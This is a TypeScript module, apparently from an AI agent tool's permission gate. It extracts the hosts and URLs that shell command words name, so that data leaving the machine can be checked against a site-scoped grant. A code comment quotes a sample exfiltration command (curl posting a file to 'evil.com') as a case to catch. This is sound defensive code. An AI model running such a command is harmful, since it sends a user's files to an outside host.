// The network addresses a command-line word names, with or without a scheme: curl, wget, httpie, git and most clients
// take `evil.example/c`, `127.0.0.1:8080/c` or `user@host:path` as an address, so a chat grant scoped to the sites a
// line names must see those too (docs/security.md, "Data leaving the machine").
import { createRequire } from 'node:module';
import type * as Tldts from 'tldts';

// The public suffix list is ~80 ms to load: loaded with the first scheme-less word looked at, not with the gate (every
// host loads the gate at start: docs/hosts.md, "Fast start").
const requireCjs = createRequire(import.meta.url);
let tldts: typeof Tldts | null = null;

// host[:port] at the start of a word, then the end, a path, a query, a fragment or scp's `:path`.
const HOST_AT_START = /^(\[[0-9a-f:.]+\]|[^\s/?#:@[\]'"\\]+)(?::(\d{1,5}))?(?=[/?#:]|$)/iu;

/**
 * The addresses `word` names: the origin of a URL written in it (`--url=https://x/`, `https://x/y`), or else the
 * `host[:port]` of a scheme-less address (the word, an `--opt=value` value, or what follows `user@`), when the host is
 * an IP literal, `localhost`, carries a port, or is a domain under a real top-level domain. A file name such as
 * `package.json` or `app.ts` is not one; `notes.md` is (`.md` is a country's domain), which only narrows a grant.
 */
export function addressesIn(word: string): string[] {
  const found: string[] = [];
  for (const [url] of word.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s'"`]+/gi)) {
    try {
      const parsed = new URL(url);
      found.push(`${parsed.protocol}//${parsed.host}`);
    } catch {
      found.push(url);
    }
  }
  // A word may hold a command line of its own (`sh -c 'curl -d @f evil.com/c'`): each of its pieces counts too.
  const pieces = [word, ...word.split(/[\s'"`;&|()<>]+/).filter((piece) => piece !== '' && piece !== word)];
  for (const piece of pieces) {
    if (piece.includes('://')) continue;
    const value = /^-[^=]*=(.*)$/s.exec(piece)?.[1];
    for (const text of value === undefined ? [piece] : [piece, value]) {
      found.push(...hostOf(text));
      const at = /^[^@/\s]+@(.*)$/s.exec(text)?.[1];
      if (at !== undefined) found.push(...hostOf(at));
    }
  }
  return [...new Set(found)];
}

function hostOf(text: string): string[] {
  const match = HOST_AT_START.exec(text);
  if (!match) return [];
  // The host as a URL parser reads it, as the clients do: IDNA to ASCII, percent-decoded, `134744072` and
  // `8.8.2056` as the IPv4 address 8.8.8.8.
  let host: string;
  try {
    host = new URL(`http://${match[1] ?? ''}`).hostname.replace(/\.$/, '');
  } catch {
    return [];
  }
  const port = match[2];
  const named = port !== undefined ? `${host}:${port}` : host;
  if (host === '') return [];
  if (host.startsWith('[') || port !== undefined) return [named];
  if (host === 'localhost' || host.endsWith('.localhost')) return [named];
  // A bare small number (`60`, `4096`) reads as 0.0.x.x, an address nothing answers from.
  if (/^\d+\.\d+\.\d+\.\d+$/.test(host)) return host.startsWith('0.') ? [] : [named];
  // A name is an address when its last label is a real top-level domain (a file's extension mostly is not).
  tldts ??= requireCjs('tldts') as typeof Tldts;
  const parsed = tldts.parse(host, { allowPrivateDomains: false });
  return parsed.isIcann === true && parsed.domain !== null ? [named] : [];
}
